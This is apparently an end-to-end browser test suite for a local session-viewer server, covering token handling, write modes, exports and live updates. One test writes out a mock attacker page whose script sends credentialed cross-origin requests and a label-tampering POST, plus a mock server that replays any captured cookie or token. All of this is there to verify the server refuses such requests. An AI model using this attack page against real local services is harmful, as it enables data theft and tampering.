// End-to-end tests of `pi-session serve` in a real browser: Chromium through Playwright against
// the server on generated sessions (tests/e2e/fixtures.mjs). The journeys of the window: open a
// session, the context preview, navigate with --allow-writes (one line appended); the token only
// as a Bearer header (the page needs none, the printed URL's fragment gives it to the page); a
// page on another port of 127.0.0.1 that gets nothing (copied demo sessions); no CSP violation,
// live updates over the event stream. Screenshots of every step go to
// tests/e2e/screenshots/serve-<stamp>/ (printed at the end).
//
//   node tests/serve/run.mjs
//
// Needs: /usr/bin/chromium (apt `chromium`), `npm ci` in tests/serve, a built UI and CLI
// (npm --prefix ui run build, then cargo build -p pi-session-cli). PI_SESSION_BIN overrides it.

import assert from "node:assert/strict";
import { appendFileSync, cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";

import { writeFixtures } from "../e2e/fixtures.mjs";
import { browser, q, repo, serve } from "./lib.mjs";
import { uxServeSpecs } from "./ux.mjs";

const stamp = new Date().toISOString().replace(/[:.]/g, "-");
const shots = join(repo, "tests/e2e/screenshots", `serve-${stamp}`);
mkdirSync(shots, { recursive: true });

const lines = (f) => readFileSync(f, "utf8").split("\n").filter(Boolean);
const walk = (d) => readdirSync(d).flatMap((n) => (statSync(join(d, n)).isDirectory() ? walk(join(d, n)) : [join(d, n)])).sort();

/**
 * The attacker: a server on another port of 127.0.0.1 whose page tries to read and write
 * through the user's browser — fetch with credentials to /api/search_indexed and
 * /api/list_sessions, a `no-cors` `text/plain` POST to /api/set_label, an EventSource on
 * /api/events — and that records every request it gets (a cookie or a token would be replayed).
 */
async function attackerServer(target) {
	const requests = [];
	const page = `<!doctype html><meta charset="utf-8"><title>another site</title><p>nothing to see</p><script>
const q = new URLSearchParams(location.search);
const T = q.get("target"), path = q.get("path"), id = q.get("id");
const out = {};
const show = async (r) => r.type === "opaque" ? "opaque (unreadable)" : r.status + " " + (await r.text()).slice(0, 300);
const tries = {
	search_indexed: () => fetch(T + "/api/search_indexed", { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: "the", limit: 5 }) }).then(show),
	list_sessions: () => fetch(T + "/api/list_sessions", { method: "POST", credentials: "include", body: "{}" }).then(show),
	list_sessions_no_cors: () => fetch(T + "/api/list_sessions", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).then(show),
	set_label: () => fetch(T + "/api/set_label", { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: JSON.stringify({ path, id, label: "pwned" }) }).then(show),
};
window.__attack = (async () => {
	for (const [k, f] of Object.entries(tries)) {
		try { out[k] = await f(); } catch (e) { out[k] = "error: " + e.message; }
	}
	out.eventsource = await new Promise((done) => {
		const es = new EventSource(T + "/api/events", { withCredentials: true });
		es.onerror = () => { es.close(); done("error"); };
		es.onmessage = es.onopen = () => { es.close(); done("event received"); };
		setTimeout(() => { es.close(); done("no answer"); }, 5000);
	});
	await fetch("/report", { method: "POST", body: JSON.stringify(out) });
	return out;
})();
</script>`;
	const server = createServer((req, res) => {
		requests.push({ url: req.url, cookie: req.headers.cookie ?? null, authorization: req.headers.authorization ?? null });
		// A credential would be replayed against the server, as a real attacker's server would.
		if (req.headers.cookie || req.headers.authorization) {
			fetch(target + "/api/list_sessions", { method: "POST", headers: { cookie: req.headers.cookie ?? "", authorization: req.headers.authorization ?? "", "content-type": "application/json" }, body: "{}" }).then((r) => requests.push({ url: "replay", status: r.status }));
		}
		req.resume();
		req.on("end", () => {
			res.writeHead(200, { "content-type": req.url.startsWith("/report") ? "text/plain" : "text/html" });
			res.end(req.url.startsWith("/report") ? "ok" : page);
		});
	});
	await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
	return { origin: `http://127.0.0.1:${server.address().port}`, requests, close: () => new Promise((ok) => (server.close(ok), server.closeAllConnections())) };
}

/** A page on the server, with CSP violations and page errors collected. */
async function open(b, srv, path = "/") {
	const page = await b.ctx.newPage();
	const problems = [];
	page.on("console", (m) => {
		if (m.type() === "error" && /Content Security Policy|Refused to/i.test(m.text())) problems.push(m.text());
	});
	page.on("pageerror", (e) => problems.push(`page error: ${e.message}`));
	const res = await page.goto(path === "/" ? srv.url : srv.origin + path);
	return { page, problems, res };
}

async function openSession(page, path) {
	await page.locator(`[data-testid=session-row][data-path=${q(path)}]`).click();
	await page.locator("[data-testid=tree-row]").first().waitFor();
}

async function selectRow(page, id) {
	const row = page.locator(`[data-testid=tree-row][data-id=${q(id)}]`);
	if ((await row.count()) === 0) await page.evaluate((i) => window.__piExplorerTest?.reveal?.(i), id);
	await row.click();
	await page.locator("[data-testid=inspector]", { hasText: id }).waitFor();
}

const specs = [
	{
		name: "the page needs no token and holds none; the API takes only the Bearer header; the token leaves the address bar and survives a reload",
		async run({ b, fx }) {
			const srv = await serve(fx.root);
			try {
				assert.match(srv.url, /^http:\/\/127\.0\.0\.1:\d+\/#token=[0-9a-f]{64}$/, "the token is in the fragment");
				let page = await b.ctx.newPage();
				const res = await page.goto(srv.origin + "/");
				assert.equal(res.status(), 200, "the page without the token");
				assert.ok(!(await res.text()).includes(srv.token), "the page holds no token");
				const api = await page.evaluate(async () => (await fetch("/api/list_sessions", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })).status);
				assert.equal(api, 401, "the API without the token");
				await page.screenshot({ path: join(shots, "401-no-token.png") });
				assert.equal(await page.locator("[data-testid=session-row]").count(), 0, "no sessions without the token");
				const json = { "content-type": "application/json" };
				for (const [p, init] of [
					["/api/list_sessions", { method: "POST", headers: json, body: "{}" }],
					["/api/list_sessions", { method: "POST", headers: { ...json, cookie: `pi_session_token=${srv.token}` }, body: "{}" }],
					[`/api/list_sessions?token=${srv.token}`, { method: "POST", headers: json, body: "{}" }],
					["/api/events", {}],
					["/api/events", { headers: { cookie: `pi_session_token=${srv.token}` } }],
				]) {
					assert.equal((await fetch(srv.origin + p, init)).status, 401, `${p} ${JSON.stringify(init.headers ?? {})}`);
				}
				const bearer = await fetch(srv.origin + "/api/list_sessions", { method: "POST", headers: { ...json, authorization: `bearer ${srv.token}` }, body: "{}" });
				assert.equal(bearer.status, 200, "the Bearer header, the scheme in any case");
				// The printed URL (in a new tab: from the same page only the fragment would change):
				// the page reads the token, drops it from the address bar, keeps it in this tab's
				// sessionStorage, and no cookie is set.
				await page.close();
				page = await b.ctx.newPage();
				await page.goto(srv.url);
				await page.locator("[data-testid=session-row]").first().waitFor();
				assert.ok(!page.url().includes(srv.token) && !page.url().includes("token"), `the token is gone from the address: ${page.url()}`);
				assert.equal(await page.evaluate(() => window.sessionStorage.getItem("pi-session-token")), srv.token);
				assert.deepEqual(await b.ctx.cookies(srv.origin), [], "no cookie");
				await page.reload();
				await page.locator("[data-testid=session-row]").first().waitFor();
				assert.ok(!(await page.content()).includes(srv.token), "the rendered page shows no token");
				await page.close();
			} finally {
				await srv.stop();
			}
		},
	},
	{
		name: "a page on another port of 127.0.0.1 gets nothing: no cookie or token reaches it, every attempt refused, files byte-identical; the UI still works",
		async run({ b }) {
			// Copied demo sessions, writes allowed: the worst case.
			const dir = mkdtempSync(join(tmpdir(), "pi-serve-attack-"));
			const root = join(dir, "sessions");
			cpSync(join(repo, "demo/sessions"), root, { recursive: true });
			const files = () => Object.fromEntries(walk(root).map((f) => [f, readFileSync(f).toString("base64")]));
			const srv = await serve(root, ["--allow-writes"]);
			const attacker = await attackerServer(srv.origin);
			try {
				// The user opens the printed URL.
				const { page: ui, problems } = await open(b, srv);
				const rows = ui.locator("[data-testid=session-row]");
				await rows.first().waitFor();
				assert.ok((await rows.count()) >= 5, `sessions listed: ${await rows.count()}`);
				const target = walk(root).find((f) => f.endsWith(".jsonl"));
				const lastId = JSON.parse(readFileSync(target, "utf8").trim().split("\n").at(-1)).id;
				const before = files();

				// Then visits a page on another port of 127.0.0.1.
				const evil = await b.ctx.newPage();
				// The answers the server gave, as the network saw them (the browser hides from the
				// page, and from Playwright's events, what CORS or CORP blocks).
				const seen = [];
				const urls = new Map();
				const cdp = await b.ctx.newCDPSession(evil);
				cdp.on("Network.requestWillBeSent", (e) => urls.set(e.requestId, [e.request.method, e.request.url]));
				cdp.on("Network.responseReceivedExtraInfo", (e) => seen.push({ id: e.requestId, status: e.statusCode }));
				await cdp.send("Network.enable");
				await evil.goto(`${attacker.origin}/?target=${encodeURIComponent(srv.origin)}&path=${encodeURIComponent(realpathSync(target))}&id=${encodeURIComponent(lastId)}`);
				const results = await evil.evaluate(() => window.__attack);
				const answers = seen.map(({ id, status }) => [...(urls.get(id) ?? ["?", "?"]), status]).filter(([, u]) => u.startsWith(srv.origin)).map(([m, u, st]) => [m, new URL(u).pathname, st]);
				await evil.screenshot({ path: join(shots, "attacker-page.png") });
				console.log(`     attacker's page: ${JSON.stringify(results)}`);
				console.log(`     answers the server gave it: ${JSON.stringify(answers)}`);
				// Nothing readable, no event received.
				for (const [name, r] of Object.entries(results)) {
					assert.ok(!/^2\d\d /.test(r) && !r.includes("sessions") && !r.includes("event received"), `${name}: ${r}`);
				}
				assert.equal(results.eventsource, "error", "the EventSource failed");
				// Every attempt reached the server and was refused (the JSON one as its preflight).
				assert.ok(answers.length >= 5 && answers.every(([, , st]) => st === 403), JSON.stringify(answers));
				for (const p of ["/api/search_indexed", "/api/set_label", "/api/list_sessions", "/api/events"]) assert.ok(answers.some(([, q]) => q === p), `${p} reached the server and was refused`);
				// No cookie or token reached the attacker's server (so nothing to replay).
				assert.ok(attacker.requests.length >= 2, `the attacker's server saw its page: ${attacker.requests.length}`);
				const leaked = attacker.requests.filter((r) => r.cookie || r.authorization || r.url.includes(srv.token));
				assert.deepEqual(leaked, [], "credentials reached the attacker");
				assert.deepEqual(files(), before, "the session files are byte-identical");
				await evil.close();

				// The UI still works: a new session file arrives over the event stream (fetch()).
				const t0 = Date.now();
				const copy = join(dirname(target), "2030-01-01T00-00-00-000Z_live.jsonl");
				const text = readFileSync(target, "utf8");
				const id = JSON.parse(text.split("\n")[0]).id;
				writeFileSync(copy, text.replace(id, "live-session-0001"));
				await ui.locator(`[data-testid=session-row][data-path=${q(realpathSync(copy))}]`).waitFor({ timeout: 10000 });
				console.log(`     new session listed after ${Date.now() - t0} ms (live update)`);
				await ui.screenshot({ path: join(shots, "attack-ui-still-works.png") });
				assert.deepEqual(problems, [], "no CSP violation or page error");
			} finally {
				await attacker.close();
				await srv.stop();
				rmSync(dir, { recursive: true, force: true });
			}
		},
	},
	{
		name: "read-only: open a session, its tree with the active path; the context preview after a compaction",
		async run({ b, fx }) {
			const before = readFileSync(fx.ids.sessionA);
			const srv = await serve(fx.root);
			try {
				const { page, problems } = await open(b, srv);
				const rows = page.locator("[data-testid=session-row]");
				await rows.first().waitFor();
				assert.ok((await rows.count()) >= 6, `sessions listed: ${await rows.count()}`);
				await page.screenshot({ path: join(shots, "list.png") });
				await openSession(page, fx.ids.sessionA);
				await page.locator(`[data-testid=tree-row][data-id=${q(fx.ids.branch3Leaf)}] [data-testid=leaf-pill]`).waitFor();
				const tree = await page.locator("[data-testid=tree-view]").innerText();
				assert.ok(tree.includes("checkpoint-1"), "the label is shown");
				await page.screenshot({ path: join(shots, "tree.png") });

				await selectRow(page, fx.ids.checkpoint);
				await page.locator("[data-testid=inspector-tab-context]").click();
				const first = page.locator("[data-testid=context-view] [data-testid=context-message]").first();
				await first.waitFor();
				assert.equal(await first.getAttribute("data-id"), fx.ids.compaction1, "the context starts with the compaction summary");
				const view = await page.locator("[data-testid=context-view]").innerText();
				assert.ok(view.includes("Goal: fix the empty-password check"), "the summary text");
				assert.ok(view.includes("Also reject whitespace-only"), "a kept entry");
				await page.locator("[data-testid=compaction-audit]").waitFor();
				assert.ok((await page.locator("[data-testid=hidden-entry]").count()) >= 1, "hidden entries listed");
				await page.screenshot({ path: join(shots, "context-preview.png") });

				// Read-only: Resume pi here does not write.
				await selectRow(page, fx.ids.branch1Leaf);
				const nav = page.locator("[data-testid=action-resume]");
				assert.equal(await nav.count(), 1);
				assert.equal(await nav.isEnabled(), false, "Resume pi here is off in read-only mode");
				await page.waitForTimeout(300);
				await page.screenshot({ path: join(shots, "read-only-navigate.png") });
				assert.deepEqual(problems, [], "no CSP violation or page error");
			} finally {
				await srv.stop();
			}
			assert.ok(readFileSync(fx.ids.sessionA).equals(before), "read-only: the file is byte-identical");
		},
	},
	{
		name: "--allow-writes: Resume pi here appends one leaf line, and it survives a reload; a live append shows up",
		async run({ b, fx }) {
			const before = readFileSync(fx.ids.sessionA);
			const n = lines(fx.ids.sessionA).length;
			const srv = await serve(fx.root, ["--allow-writes"]);
			try {
				const { page, problems } = await open(b, srv);
				await openSession(page, fx.ids.sessionA);
				const target = fx.ids.branch1Leaf;
				await selectRow(page, target);
				await page.locator("[data-testid=action-resume]").click();
				await page.locator("[data-testid=resume-ok]").click();
				await page.locator(`[data-testid=tree-row][data-id=${q(target)}] [data-testid=leaf-pill]`).waitFor();
				assert.equal(await page.locator("[data-testid=leaf-pill]").count(), 1, "one leaf");
				const after = readFileSync(fx.ids.sessionA);
				assert.ok(after.subarray(0, before.length).equals(before), "the old bytes are untouched");
				const all = lines(fx.ids.sessionA);
				assert.equal(all.length, n + 1, "one line appended");
				const last = JSON.parse(all.at(-1));
				assert.deepEqual([last.type, last.targetId, last.parentId], ["leaf", target, target]);
				await page.screenshot({ path: join(shots, "navigate.png") });

				await page.reload();
				await openSession(page, fx.ids.sessionA);
				await page.locator(`[data-testid=tree-row][data-id=${q(target)}] [data-testid=leaf-pill]`).waitFor();
				await page.screenshot({ path: join(shots, "navigate-after-reload.png") });

				// Another process appends: the watcher's root-changed event arrives over SSE.
				const id = "live0001";
				const t0 = Date.now();
				appendFileSync(
					fx.ids.sessionA,
					JSON.stringify({ type: "message", id, parentId: target, timestamp: new Date().toISOString(), message: { role: "user", content: "Appended while the page was open.", timestamp: Date.now() } }) + "\n",
				);
				await page.locator(`[data-testid=tree-row][data-id=${q(id)}]`).waitFor({ timeout: 5000 });
				console.log(`     live append visible after ${Date.now() - t0} ms`);
				await page.screenshot({ path: join(shots, "live-append.png") });
				assert.deepEqual(problems, [], "no CSP violation or page error");
			} finally {
				await srv.stop();
			}
		},
	},
	{
		name: "--allow-writes: pi mid-line: Resume pi here is refused with `busy` and nothing is written; Try again writes once the line ends",
		async run({ b, fx }) {
			const srv = await serve(fx.root, ["--allow-writes"]);
			// pi begins a line and keeps adding to it (a byte every 100 ms) while we write.
			const head = JSON.stringify({ type: "message", id: "live0002", parentId: fx.ids.branch3Leaf, timestamp: new Date().toISOString(), message: { role: "user", content: "x", timestamp: Date.now() } });
			const [begun, rest] = [head.slice(0, head.indexOf('"x"') + 2), head.slice(head.indexOf('"x"') + 2)];
			appendFileSync(fx.ids.sessionA, begun);
			const ticker = setInterval(() => appendFileSync(fx.ids.sessionA, "y"), 100);
			try {
				const { page, problems } = await open(b, srv);
				await openSession(page, fx.ids.sessionA);
				const n = lines(fx.ids.sessionA).length;
				const target = fx.ids.branch1Leaf;
				await selectRow(page, target);
				await page.locator("[data-testid=action-resume]").click();
				await page.locator("[data-testid=resume-ok]").click();
				// The tree shows the unfinished line as a torn tail: the UI asks first.
				await page.locator("[data-testid=torn-confirm]").click();
				const retry = page.locator("[data-testid=busy-retry]");
				await retry.waitFor({ timeout: 10000 });
				const toast = await page.locator("[data-testid=toast]", { has: retry }).innerText();
				assert.ok(toast.includes("pi is writing this session") && toast.includes("try again"), toast);
				await page.screenshot({ path: join(shots, "busy.png") });
				assert.equal(lines(fx.ids.sessionA).length, n, "nothing of ours was written");
				assert.ok(!readFileSync(fx.ids.sessionA, "utf8").includes('"type":"leaf"'), "no leaf line");
				// pi ends its line; Try again writes our line after it.
				clearInterval(ticker);
				appendFileSync(fx.ids.sessionA, `${rest}\n`);
				await retry.click();
				await page.locator(`[data-testid=tree-row][data-id=${q(target)}] [data-testid=leaf-pill]`).waitFor();
				const all = lines(fx.ids.sessionA);
				assert.equal(all.length, n + 1, "pi's line ended, then ours");
				const [theirs, ours] = all.slice(-2).map((l) => JSON.parse(l));
				assert.equal(theirs.id, "live0002");
				assert.deepEqual([ours.type, ours.targetId], ["leaf", target]);
				await page.screenshot({ path: join(shots, "busy-retried.png") });
				assert.deepEqual(problems, [], "no CSP violation or page error");
			} finally {
				clearInterval(ticker);
				await srv.stop();
			}
		},
	},
	{
		name: "--allow-writes: browsing never writes: Enter on every row of the tree and ‹ › in the transcript change no byte; R, Enter resumes pi (one leaf line) and Ctrl+Z appends the leaf back",
		async run({ b, fx }) {
			const srv = await serve(fx.root, ["--allow-writes"]);
			try {
				const { page, problems } = await open(b, srv);
				await openSession(page, fx.ids.sessionA);
				const before = readFileSync(fx.ids.sessionA);
				const tree = page.locator("[data-testid=tree-view]");
				await tree.focus();
				await page.keyboard.press("Home");
				const rows = await page.locator("[data-testid=tree-row], [data-testid=fold-row]").count();
				for (let i = 0; i < rows + 4; i++) {
					await page.keyboard.press("Enter");
					await page.keyboard.press("ArrowDown");
				}
				assert.ok(readFileSync(fx.ids.sessionA).equals(before), "Enter through the tree changed no byte");
				// Esc: back to pi's leaf; the transcript's switcher at the three branches, both ways.
				await page.keyboard.press("Escape");
				await page.locator("[data-testid=view-bar]").waitFor({ state: "detached" });
				await page.locator("[data-testid=tab-transcript]").click();
				const [b1, b2, b3] = fx.ids.branchUsers;
				const at = (id) => page.locator(`[data-testid=transcript-item][data-id=${q(id)}]`);
				await at(b3).locator("[data-testid=sibling-prev]").click();
				await at(b2).locator("[data-testid=sibling-prev]").click();
				await at(b1).locator("[data-testid=sibling-pos]", { hasText: "1/3" }).waitFor();
				await at(b1).locator("[data-testid=sibling-next]").click();
				await at(b2).locator("[data-testid=sibling-pos]", { hasText: "2/3" }).waitFor();
				await page.locator("[data-testid=view-bar]").waitFor();
				assert.ok(readFileSync(fx.ids.sessionA).equals(before), "switching branches changed no byte");
				await page.screenshot({ path: join(shots, "browse-no-write.png") });
				// Resume pi on the branch shown: R in the transcript, Enter confirms.
				await at(b2).click();
				await page.keyboard.press("R");
				await page.locator("[data-testid=resume-confirm]").waitFor();
				assert.match(await page.locator("[data-testid=resume-note]").innerText(), /editor/, "a user message: its text back in pi's editor");
				await page.keyboard.press("Enter");
				await page.locator("[data-testid=toast-detail]").waitFor();
				const n = lines(fx.ids.sessionA).length;
				const added = readFileSync(fx.ids.sessionA).subarray(before.length).toString().split("\n").filter(Boolean).map((l) => JSON.parse(l));
				assert.equal(added.length, 1, "one line appended");
				assert.equal(added[0].type, "leaf");
				assert.equal(added[0].targetId, fx.ids.branchHub, "a user message resumes at its parent, as pi's /tree does");
				// Ctrl+Z: the leaf back, one more line.
				await page.locator("[data-testid=tree-view], [data-testid=transcript-view]").first().focus();
				await page.keyboard.press("Control+z");
				const end = Date.now() + 5000;
				while (lines(fx.ids.sessionA).length === n && Date.now() < end) await page.waitForTimeout(100);
				const last = JSON.parse(lines(fx.ids.sessionA).at(-1));
				assert.deepEqual([last.type, last.targetId], ["leaf", fx.ids.branch3Leaf], "Ctrl+Z: back to pi's old leaf");
				assert.ok(readFileSync(fx.ids.sessionA).subarray(0, before.length).equals(before), "the old bytes untouched");
				assert.deepEqual(problems, [], "no CSP violation or page error");
			} finally {
				await srv.stop();
			}
		},
	},
	{
		name: "export: the browser downloads the HTML and the Markdown (nothing written on the server's machine); the inspector follows the view; 1-6 and a search hit's Enter",
		async run({ b, fx }) {
			const srv = await serve(fx.root);
			const files = walk(fx.root);
			try {
				const { page, problems } = await open(b, srv);
				await openSession(page, fx.ids.sessionA);
				const [dl] = await Promise.all([page.waitForEvent("download"), page.locator("[data-testid=export-html]").click()]);
				assert.equal(dl.suggestedFilename(), fx.ids.sessionA.split("/").pop().replace(/\.jsonl$/, ".html"));
				const html = readFileSync(await dl.path(), "utf8");
				assert.ok(html.toLowerCase().includes("<html") && html.includes("Content-Security-Policy"), "a self-contained HTML export");
				await page.locator("[data-testid=toast-message]", { hasText: "Downloaded" }).waitFor();
				await page.locator("[data-testid=export-tree]").check();
				const [md] = await Promise.all([page.waitForEvent("download"), page.locator("[data-testid=export-md]").click()]);
				assert.ok(md.suggestedFilename().endsWith("-tree.md"), md.suggestedFilename());
				assert.ok(readFileSync(await md.path(), "utf8").length > 100);
				assert.equal((await page.locator("[data-testid=export-dialog]").count()), 0, "no save dialog in a browser");
				await page.screenshot({ path: join(shots, "export-download.png") });
				assert.deepEqual(walk(fx.root), files, "nothing written under the root");
				// The inspector follows the view: none beside the fork graph and the dashboard.
				await page.locator("[data-testid=tree-view]").focus();
				await page.keyboard.press("2");
				await page.locator("[data-testid=tab-forks][aria-selected=true]").waitFor();
				assert.equal(await page.locator("[data-testid=inspector]").count(), 0, "no inspector beside the fork graph");
				await page.keyboard.press("6");
				await page.locator("[data-testid=tab-dashboard][aria-selected=true]").waitFor();
				assert.equal(await page.locator("[data-testid=action-fork]").count(), 0, "no write beside the dashboard");
				await page.keyboard.press("1");
				await page.locator("[data-testid=inspector]").waitFor();
				// A search hit's Enter: the tree has the keys, at that entry.
				await page.keyboard.press("Control+k");
				await page.keyboard.type("error pages");
				await page.locator("[data-testid=search-hit]").first().waitFor();
				await page.keyboard.press("ArrowDown");
				const id = await page.evaluate(() => document.activeElement?.getAttribute("data-id"));
				await page.keyboard.press("Enter");
				await page.waitForFunction(() => document.activeElement?.getAttribute("data-testid") === "tree-view");
				assert.equal(await page.evaluate(() => window.__piExplorerTest.selectedId()), id);
				assert.deepEqual(problems, [], "no CSP violation or page error");
			} finally {
				await srv.stop();
			}
		},
	},
];

specs.push(...uxServeSpecs({ open, shots }));

const only = process.argv.includes("--only") ? process.argv[process.argv.indexOf("--only") + 1] : null;
let passed = 0;
const failed = [];
const b = await browser();
try {
	for (const spec of specs) {
		if (only && !spec.name.includes(only)) continue;
		const dir = mkdtempSync(join(tmpdir(), "pi-serve-e2e-"));
		const fx = writeFixtures(join(dir, "sessions"));
		const t0 = Date.now();
		try {
			await spec.run({ b, fx, dir });
			passed++;
			console.log(`ok   ${spec.name} (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
		} catch (e) {
			failed.push(spec.name);
			console.log(`FAIL ${spec.name}: ${e.stack ?? e}`);
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	}
} finally {
	await b.close();
}
console.log(`\nscreenshots: ${shots}`);
console.log(`${passed} passed, ${failed.length} failed${failed.length ? `: ${failed.join(", ")}` : ""}`);
process.exitCode = failed.length || passed === 0 ? 1 : 0;
